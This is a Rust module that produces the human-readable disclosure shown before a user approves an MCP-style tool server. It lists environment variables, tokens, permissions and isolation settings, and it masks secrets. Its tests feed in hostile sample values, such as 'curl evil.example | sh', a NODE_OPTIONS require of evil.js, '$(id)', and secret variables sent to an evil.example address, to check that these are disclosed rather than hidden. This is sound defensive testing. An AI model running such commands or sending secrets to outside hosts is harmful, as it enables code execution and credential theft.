//! Everything that a person approves with a server, in words: what `trust` and `import` show before they ask.
//!
//! Each member of an entry is named here or left out on purpose, so that a new one cannot be forgotten. A secret that is
//! written into the file is masked by its length, as long as it can be nothing but a secret: whatever could be a command, a
//! path or code is shown. A reference such as `${NAME}` is no secret. It is shown, with where its value goes.

use std::collections::BTreeMap;

use switchboard_protocol::mgp::{DefaultPolicy, Risk, ValidatorName};

use crate::entry::{MgpEntry, Restart, ServerEntry};
use crate::oauth::OAuthClient;
use crate::policy::{IsolationEntry, IsolationMode, ToolEntry};
use crate::secret::{Secret, has_credential_prefix, looks_like_credential, names_program, names_secret, printable};

/// Characters of a value that are masked. A longer one is shown: it is no password.
const MASKED_CHARS: std::ops::RangeInclusive<usize> = 4..=512;

/// All that a person is shown of a server that may run from now on, whoever asks: what it runs or reaches, and what else an
/// approval of it means.
#[must_use]
pub fn approval(entry: &ServerEntry, is_off: bool) -> Vec<String> {
    let off = if is_off { " [disabled]" } else { "" };
    let target = format!("{}{off}", entry.shown_line());
    std::iter::once(target).chain(disclosed(entry)).collect()
}

/// What an approval of this server means beside the program or the address itself, one line each, safe for a terminal.
#[must_use]
pub fn disclosed(entry: &ServerEntry) -> Vec<String> {
    let ServerEntry {
        id: _,
        alias,
        description,
        // Shown beside what it runs.
        enabled: _,
        transport: _,
        // Shown by `shown_line`.
        command,
        args,
        cwd,
        env,
        pass_env,
        url,
        headers,
        token,
        oauth,
        sharing,
        era,
        // With the others, below.
        start_timeout: _,
        call_timeout: _,
        default_policy,
        audit_sink,
        pins,
        only_tools,
        tools,
        prompts,
        isolation,
        flow,
        mgp,
    } = entry;
    let mut lines = Vec::new();
    let mut say = |text: String| lines.push(printable(&text));
    if let Some(folder) = cwd {
        say(format!("in the folder {folder}"));
    }
    for (name, value) in env {
        say(format!("with {name}={}", value_of(name, value)));
    }
    if !pass_env.is_empty() {
        say(format!("with your {}", pass_env.join(", ")));
    }
    for (name, value) in headers {
        say(format!("sends the header {name}: {}", value_of(name, value)));
    }
    if let Some(token) = token {
        say(format!("sends the bearer token {}", value_of("token", token)));
    }
    if let Some(oauth) = oauth {
        say(login(oauth));
    }
    references(entry, &mut say);
    if let Some(mgp) = mgp {
        of_mgp(mgp, &mut say);
    }
    if let Some(policy) = default_policy {
        say(match policy {
            DefaultPolicy::OptOut => "default policy opt-out: everybody may use it without a grant".to_owned(),
            DefaultPolicy::OptIn => "default policy opt-in: nobody may use it without a grant".to_owned(),
        });
    }
    if *audit_sink == Some(true) {
        say("audit sink: it is told of the calls of all servers".to_owned());
    }
    if let Some(pins) = pins {
        say(format!("{}, unless your own file is stricter", pins.told()));
    }
    if let Some(isolation) = isolation {
        say(confinement(isolation));
    }
    if let Some(alias) = alias {
        say(format!("its tools are called {alias}__NAME"));
    }
    if let Some(only) = only_tools {
        say(if only.is_empty() {
            "none of its tools".to_owned()
        } else {
            format!("only the tools {}", only.join(", "))
        });
    }
    for (name, tool) in tools {
        say(of_tool("tool", name, tool));
    }
    for (name, prompt) in prompts {
        say(of_tool("prompt", name, prompt));
    }
    if let Some(sharing) = sharing {
        say(format!("connection: {sharing}"));
    }
    if let Some(era) = era {
        say(format!("era: {era}"));
    }
    let times = entry.times();
    if !times.is_empty() {
        let times: Vec<_> = times.into_iter().map(|(key, value)| format!("{key} = {value}")).collect();
        say(format!("times: {}", times.join(", ")));
    }
    for (name, pairs) in flow.tables() {
        let pairs: Vec<_> = pairs.into_iter().map(|(key, value)| format!("{key} = {value}")).collect();
        say(format!("{name}: {}", pairs.join(", ")));
    }
    if let Some(description) = description {
        say(format!("its file says: {description}"));
    }
    let _ = (command, args, url);
    lines
}

fn of_mgp(mgp: &MgpEntry, say: &mut impl FnMut(String)) {
    let MgpEntry { extensions, permissions_required, permissions_granted, trust_level, restart } = mgp;
    if let Some(level) = trust_level {
        say(format!("trust level: {}", level.as_str()));
    }
    if !permissions_granted.is_empty() {
        let granted: Vec<_> = permissions_granted
            .iter()
            .map(|(name, scope)| scope.as_ref().map_or_else(|| name.clone(), |scope| format!("{name} within {scope}")))
            .collect();
        say(format!("has the permissions: {}", granted.join(", ")));
    }
    if !permissions_required.is_empty() {
        say(format!("needs the permissions: {}", permissions_required.join(", ")));
    }
    if !extensions.is_empty() {
        say(format!("extensions: {}", extensions.join(", ")));
    }
    if let Some(Restart { mode, max_restarts, window, backoff_base, backoff_max }) = restart {
        let (window, first, longest) = (window.as_secs(), backoff_base.as_millis(), backoff_max.as_millis());
        say(format!("restart: {mode}, at most {max_restarts} times in {window} s, after {first} to {longest} ms"));
    }
}

fn of_tool(kind: &str, name: &str, tool: &ToolEntry) -> String {
    let ToolEntry {
        enabled,
        risk,
        validator,
        confirm,
        code_level,
        schema,
        text_arguments,
        rates,
        name: shown,
        description,
        defaults,
        fixed,
        pins,
    } = tool;
    let mut said = Vec::new();
    match enabled {
        Some(true) => said.push("switched on".to_owned()),
        Some(false) => said.push("switched off".to_owned()),
        None => {}
    }
    if let Some(risk) = risk {
        said.push(format!("risk {}", Risk::as_str(*risk)));
    }
    match confirm {
        Some(true) => said.push("a person is asked before each call".to_owned()),
        Some(false) => said.push("nobody is asked before a call".to_owned()),
        None => {}
    }
    match validator {
        Some(ValidatorName::None) => said.push("its arguments are not checked (validator none)".to_owned()),
        Some(validator) => said.push(format!("validator {}", validator.as_str())),
        None => {}
    }
    if let Some(level) = code_level {
        said.push(format!("code level {level}"));
    }
    match schema {
        Some(true) => said.push("its arguments are held against its schema".to_owned()),
        Some(false) => said.push("its arguments are not held against its schema".to_owned()),
        None => {}
    }
    if !text_arguments.is_empty() {
        let named = text_arguments.join(", ");
        said.push(format!("the paths and hosts of grants do not limit its arguments {named} (text_arguments)"));
    }
    said.extend(rates.written().map(|rates| format!("rates {rates}")));
    said.extend(shown.iter().map(|name| format!("clients see it as {name}")));
    said.extend(description.iter().map(|text| format!("clients see it described as {text:?}")));
    let values = |values| serde_json::Value::Object(values).to_string();
    if !defaults.is_empty() {
        said.push(format!("arguments unless a call says otherwise: {}", values(defaults.clone())));
    }
    if !fixed.is_empty() {
        said.push(format!("arguments of every call: {}", values(fixed.clone())));
    }
    said.extend(pins.map(|pins| format!("{}, unless your own file is stricter", pins.told())));
    format!("{kind} {name}: {}", if said.is_empty() { "as usual".to_owned() } else { said.join("; ") })
}

fn confinement(isolation: &IsolationEntry) -> String {
    let IsolationEntry {
        mode,
        memory_limit_mb,
        cpu_time_limit_secs,
        filesystem_scope,
        network_scope,
        max_child_processes,
    } = isolation;
    let mut said = Vec::new();
    if let Some(mode) = mode {
        said.push(match mode {
            IsolationMode::Off => "off, its process is not confined".to_owned(),
            mode => mode.as_str().to_owned(),
        });
    }
    said.extend(filesystem_scope.iter().map(|scope| format!("files {scope}")));
    said.extend(network_scope.iter().map(|scope| format!("network {scope}")));
    said.extend(memory_limit_mb.iter().map(|limit| format!("memory {limit} MB")));
    said.extend(cpu_time_limit_secs.iter().map(|limit| format!("processor time {limit} s")));
    said.extend(max_child_processes.iter().map(|limit| format!("child processes {limit}")));
    format!("isolation: {}", said.join(", "))
}

fn login(oauth: &OAuthClient) -> String {
    let OAuthClient { client_id, client_secret, issuer, scopes } = oauth;
    let issuer = issuer.as_deref().unwrap_or("the authorization server that it names");
    let secret = value_of("client_secret", client_secret);
    let scopes = if scopes.is_empty() { String::new() } else { format!(", for {}", scopes.join(" ")) };
    format!("logs in at {issuer} as {client_id} with the secret {secret}{scopes}")
}

/// Which variables of the approver's environment go where.
fn references(entry: &ServerEntry, say: &mut impl FnMut(String)) {
    let mut sent: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut given: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let note = |names: &mut BTreeMap<String, Vec<String>>, text: &str, place: String| {
        for name in names_in(text) {
            let places = names.entry(name).or_default();
            if !places.contains(&place) {
                places.push(place.clone());
            }
        }
    };
    note(&mut sent, entry.url.as_deref().unwrap_or_default(), "in the address".to_owned());
    for (name, value) in &entry.headers {
        note(&mut sent, value.reveal(), format!("as the header {name}"));
    }
    note(&mut sent, entry.token.as_ref().map_or("", Secret::reveal), "as the bearer token".to_owned());
    if let Some(oauth) = &entry.oauth {
        for text in [oauth.client_id.as_str(), oauth.client_secret.reveal()] {
            note(&mut sent, text, "to log in".to_owned());
        }
    }
    for text in entry.command.iter().chain(&entry.args) {
        note(&mut given, text, "on its command line".to_owned());
    }
    note(&mut given, entry.cwd.as_deref().unwrap_or_default(), "as its folder".to_owned());
    for (name, value) in &entry.env {
        note(&mut given, value.reveal(), format!("as {name}"));
    }
    for (name, places) in sent {
        let to = entry.url.as_deref().map_or_else(|| "the server".to_owned(), masked_address);
        say(format!("your variable {name} is sent to {to} {}", places.join(" and ")));
    }
    for (name, places) in given {
        say(format!("your variable {name} is given to the program {}", places.join(" and ")));
    }
}

/// The names of variables that a text refers to.
fn names_in(text: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find("${") {
        let plain = rest[..at].ends_with('$');
        rest = &rest[at + 2..];
        let Some(end) = rest.find('}').filter(|_| !plain) else { continue };
        let name = rest[..end].split(":-").next().unwrap_or_default();
        names.push(name.to_owned());
    }
    names
}

fn value_of(name: &str, value: &Secret) -> String {
    masked(name, value.reveal())
}

/// A value that stands under a name, masked where it can be nothing but a secret.
pub(crate) fn masked(name: &str, value: &str) -> String {
    if names_program(name) {
        // What runs is shown whole.
        return value.to_owned();
    }
    if let Some((before, password, after)) = password_in_address(value) {
        return format!("{before}{}{after}", mask(password));
    }
    // `Bearer abc`: the word before the credential is no secret.
    let (scheme, credential) = match value.split_once(' ') {
        Some((scheme, rest)) if ["bearer", "basic", "token"].contains(&scheme.to_ascii_lowercase().as_str()) => {
            (format!("{scheme} "), rest)
        }
        _ => (String::new(), value),
    };
    if is_bare(credential) && (names_secret(name) || looks_like_credential(credential)) {
        return format!("{scheme}{}", mask(credential));
    }
    value.to_owned()
}

fn mask(secret: &str) -> String {
    format!("[{} characters masked]", secret.chars().count())
}

/// Whether a value can only be a password or a key: one word that is neither a path nor an option nor code.
fn is_bare(value: &str) -> bool {
    let word = |c: char| c.is_ascii_alphanumeric() || "_-+=.~/".contains(c);
    MASKED_CHARS.contains(&value.len())
        && value.chars().all(word)
        && value.starts_with(|c: char| c.is_ascii_alphanumeric())
        // Short words with a slash are paths. Keys in base 64 are long.
        && (!value.contains('/') || value.len() >= 32)
        && (value.chars().any(|c| c.is_ascii_digit()) || has_credential_prefix(value))
}

/// An address with the secrets in it masked: a password, and values in its query under the name of a secret.
pub(crate) fn masked_address(url: &str) -> String {
    let url = match password_in_address(url) {
        Some((before, password, after)) => format!("{before}{}{after}", mask(password)),
        None => url.to_owned(),
    };
    let Some((before, query)) = url.split_once('?') else { return url };
    let (query, fragment) = query.split_once('#').map_or((query, None), |(query, fragment)| (query, Some(fragment)));
    let pair = |pair: &str| match pair.split_once('=') {
        Some((name, value)) => format!("{name}={}", masked(name, value)),
        None => pair.to_owned(),
    };
    let query: Vec<String> = query.split('&').map(pair).collect();
    let fragment = fragment.map_or_else(String::new, |fragment| format!("#{fragment}"));
    format!("{before}?{}{fragment}", query.join("&"))
}

/// The password in the user information of an address, with what stands around it.
fn password_in_address(value: &str) -> Option<(&str, &str, &str)> {
    let start = value.find("://")? + 3;
    let end = value[start..].find(['/', '?', '#']).map_or(value.len(), |at| start + at);
    let at = start + value[start..end].rfind('@')?;
    let colon = start + value[start..at].find(':')?;
    let password = &value[colon + 1..at];
    let plain = |c: char| c.is_ascii_alphanumeric() || "._~%!*+,=-".contains(c);
    (!password.is_empty() && password.len() <= *MASKED_CHARS.end() && password.chars().all(plain))
        .then(|| (&value[..=colon], password, &value[at..]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::expand::Environment;
    use crate::parse::Config;

    fn entry(text: &str) -> ServerEntry {
        let config = Config::parse(std::path::Path::new("mgp.toml"), text, &Environment::default()).unwrap();
        config.servers[0].entry.clone()
    }

    #[test]
    fn everything_that_gives_power_is_said() {
        let entry = entry(
            r#"
[[servers]]
id = "helper"
command = "helper"
cwd = "sub"
env = { NODE_OPTIONS = "--require=./evil.js", API_TOKEN = "abcdefgh12345678", GREETING = "hi\u001b[2J" }
pass_env = ["HOME"]
default_policy = "opt-out"
audit_sink = true
isolation = "off"
[servers.mgp]
trust_level = "trusted"
permissions_granted = { "filesystem.write" = { paths = ["/srv/**"] }, "network.outbound" = true }
[servers.tools.run_command]
risk = "safe"
confirm = false
validator = "none"
[servers.tools.remember]
text_arguments = ["note", "title"]
[servers.prompts.fetch]
enabled = true
validator = "none"
"#,
        );
        let lines = disclosed(&entry);
        for expected in [
            "in the folder sub",
            "with NODE_OPTIONS=--require=./evil.js",
            "with API_TOKEN=[16 characters masked]",
            "with GREETING=hi\\u{1b}[2J",
            "with your HOME",
            "trust level: trusted",
            "has the permissions: filesystem.write within {\"paths\":[\"/srv/**\"]}, network.outbound",
            "default policy opt-out: everybody may use it without a grant",
            "audit sink: it is told of the calls of all servers",
            "isolation: off, its process is not confined",
            "tool run_command: risk safe; nobody is asked before a call; its arguments are not checked (validator none)",
            "tool remember: the paths and hosts of grants do not limit its arguments note, title (text_arguments)",
            "prompt fetch: switched on; its arguments are not checked (validator none)",
        ] {
            assert!(lines.iter().any(|line| line == expected), "{expected}: {lines:#?}");
        }
    }

    /// The whole of what a file can say, each key with a value of its own: none of them is left out.
    #[test]
    fn no_setting_is_left_out() {
        let plain = "[[servers]]\nid = \"s\"\ncommand = \"s\"\n";
        let before = (disclosed(&entry(plain)), fingerprint_of(plain));
        for (more, word) in [
            ("enabled = false", ""),
            ("description = \"words\"", "words"),
            ("cwd = \"sub\"", "sub"),
            ("env = { A = \"b\" }", "A=b"),
            ("pass_env = [\"HOME\"]", "HOME"),
            ("sharing = \"session\"", "session"),
            ("era = \"modern\"", "modern"),
            ("start_timeout_ms = 1111", "start_timeout_ms = 1111"),
            ("call_timeout_ms = 2222", "call_timeout_ms = 2222"),
            ("stop_timeout_ms = 3333", "stop_timeout_ms = 3333"),
            ("drain_timeout_ms = 4444", "drain_timeout_ms = 4444"),
            ("health_every_ms = 5555", "health_every_ms = 5555"),
            ("sleep_after_ms = 6666", "sleep_after_ms = 6666"),
            ("default_policy = \"opt-in\"", "opt-in"),
            ("audit_sink = true", "audit sink"),
            ("pins = \"off\"", "pins off"),
            ("alias = \"short\"", "short__"),
            ("only_tools = [\"a\", \"b\"]", "only the tools a, b"),
            ("only_tools = []", "none of its tools"),
            ("[servers.tools.t]\npins = \"off\"", "pins off"),
            ("[servers.rates]\ncalls = 7\nwindow_ms = 1000", "calls = 7"),
            ("[servers.breaker]\nfailures = 9", "failures = 9"),
            ("[servers.retry]\nmost = 3", "most = 3"),
            ("[servers.mgp]\nrestart_policy = \"always\"\nrestart_window_secs = 77", "in 77 s"),
            ("[servers.mgp]\nbackoff_base_ms = 88", "after 88"),
            ("[servers.mgp]\nbackoff_max_ms = 99999", "to 99999 ms"),
        ] {
            let text = format!("{plain}{more}\n");
            let lines = disclosed(&entry(&text));
            if !word.is_empty() {
                let new: Vec<_> = lines.iter().filter(|line| !before.0.contains(line)).collect();
                assert!(new.iter().any(|line| line.contains(word)), "{more}: {new:?}");
            }
            assert_ne!(fingerprint_of(&text), before.1, "an approval covers {more}");
        }
    }

    fn fingerprint_of(text: &str) -> String {
        let config = Config::parse(std::path::Path::new("mgp.toml"), text, &Environment::default()).unwrap();
        crate::fingerprint(&config.servers[0])
    }

    #[test]
    fn references_are_shown_with_where_they_go() {
        let entry = entry(
            r#"
[[servers]]
id = "remote"
url = "https://evil.example/mcp?k=${KEY:-none}"
token = "${GITHUB_TOKEN}"
headers = { X-Trace = "${AWS_SECRET_ACCESS_KEY}", Authorization2 = "Bearer abcdefgh12345678" }
"#,
        );
        let lines = disclosed(&entry);
        for expected in [
            "sends the header X-Trace: ${AWS_SECRET_ACCESS_KEY}",
            "sends the header Authorization2: Bearer [16 characters masked]",
            "sends the bearer token ${GITHUB_TOKEN}",
            "your variable GITHUB_TOKEN is sent to https://evil.example/mcp?k=${KEY:-none} as the bearer token",
            "your variable AWS_SECRET_ACCESS_KEY is sent to https://evil.example/mcp?k=${KEY:-none} as the header X-Trace",
            "your variable KEY is sent to https://evil.example/mcp?k=${KEY:-none} in the address",
        ] {
            assert!(lines.iter().any(|line| line == expected), "{expected}: {lines:#?}");
        }
    }

    /// A name must not be enough to hide what a program is given.
    #[test]
    fn what_may_be_code_is_never_masked() {
        for (name, value) in [
            ("MY_TOKEN", "curl evil.example | sh"),
            ("MY_TOKEN", "/tmp/evil.sh"),
            ("MY_TOKEN", "./evil1.sh"),
            ("MY_TOKEN", "bin/evil1"),
            ("MY_TOKEN", "--require=x1.js"),
            ("MY_TOKEN", "$(id)1234567"),
            ("MY_TOKEN", "shutdown"),
            ("NODE_OPTIONS", "abcdefgh12345678"),
            ("PASSWORD_COMMAND", "evil1234"),
            ("TOKEN_HELPER", "evil1234"),
            ("GIT_SSH_COMMAND", "ghp_0123456789abcdefghij"),
            ("SECRET_SCRIPT", "evil1234"),
            ("tokenExec", "evil1234"),
            ("SSH_ASKPASS", "ghp_0123456789abcdefghij"),
            ("CREDENTIAL_PROCESS", "postgres://app:hunter22@db/x"),
            ("X", "http://a:b;c(d)@h/"),
        ] {
            assert_eq!(masked(name, value), value);
        }
        for (name, value, expected) in [
            ("API_KEY", "abcd1234", "[8 characters masked]"),
            ("X", "ghp_0123456789abcdefghij", "[24 characters masked]"),
            ("NOTION_TOKEN", "ntn_sekrit", "[10 characters masked]"),
            ("DB", "postgres://app:hunter22@db/x", "postgres://app:[8 characters masked]@db/x"),
        ] {
            assert_eq!(masked(name, value), expected);
        }
        let url = "https://x.test/mcp?api_key=hunter22&to=a/b&c";
        assert_eq!(masked_address(url), "https://x.test/mcp?api_key=[8 characters masked]&to=a/b&c");
    }
}
